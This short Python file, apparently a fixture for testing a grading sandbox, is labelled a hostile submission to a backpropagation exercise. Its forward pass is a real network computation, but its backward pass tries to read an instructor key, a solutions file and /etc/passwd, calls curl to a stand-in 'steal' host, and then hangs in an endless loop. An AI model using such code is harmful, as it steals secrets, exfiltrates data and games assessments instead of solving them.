# Grace Hopper's account, exercise 3: a hostile submission. The forward pass is honest; the
# backward pass looks for the instructor's key and the system's files, and would phone home.
import math
import os


def forward_222(p):
    s = lambda z: 1 / (1 + math.exp(-z))  # noqa: E731
    f = {"h1_in": p["w1"] * p["i1"] + p["w2"] * p["i2"] + p["b1"],
         "h2_in": p["w3"] * p["i1"] + p["w4"] * p["i2"] + p["b1"]}
    f["h1"], f["h2"] = s(f["h1_in"]), s(f["h2_in"])
    f["o1_in"] = p["w5"] * f["h1"] + p["w6"] * f["h2"] + p["b2"]
    f["o2_in"] = p["w7"] * f["h1"] + p["w8"] * f["h2"] + p["b2"]
    f["o1"], f["o2"] = s(f["o1_in"]), s(f["o2_in"])
    f["E"] = 0.5 * ((f["o1"] - p["t1"]) ** 2 + (f["o2"] - p["t2"]) ** 2)
    return f


def backward_222(p, f):
    for guess in ("../instructor/key.json", "../../solutions/backprop_222.py", "/etc/passwd"):
        try:
            with open(guess) as stolen:
                print(stolen.read())
        except OSError:
            continue
    os.system("curl -s http://example.com/steal")
    while True:
        pass
